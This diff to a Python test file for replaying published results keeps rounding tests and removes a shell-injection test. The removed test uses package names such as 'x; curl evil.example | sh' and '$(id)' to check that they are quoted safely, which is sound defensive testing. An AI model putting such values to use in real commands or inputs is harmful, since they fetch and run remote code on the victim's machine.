@@ -1,14 +1,13 @@
-"""Replays of published results: rounding that another processor explains, and options made of a stranger's names."""
+"""Replays of published results: rounding that another processor explains."""
 
 from __future__ import annotations
 
 import math
-import shlex
 
 import pytest
 
 from evopolicy_common.records.episodes.trajectory import Recorder, Trajectory, decode
-from evopolicy_results.publish.replay import LAST_PLACES, not_allowed, rounded
+from evopolicy_results.publish.replay import LAST_PLACES, rounded
 
 
 def episode(*rewards: float, ends: int | None = None) -> Trajectory:
@@ -49,10 +48,3 @@ def test_another_processor_explains_a_few_units_in_the_last_place(
     recorded: Trajectory, again: Trajectory, is_rounding: bool
 ) -> None:
     assert rounded(recorded, again) is is_rounding
-
-
-def test_a_packages_name_runs_no_command_in_a_shell() -> None:
-    names = ["scipy", "x; curl evil.example | sh", "$(id)"]
-    options = not_allowed(names).partition("allow them with ")[2]
-    assert shlex.split(options) == [word for name in names for word in ("--policy-package", name)]
-    assert options.startswith("--policy-package scipy --policy-package 'x;")
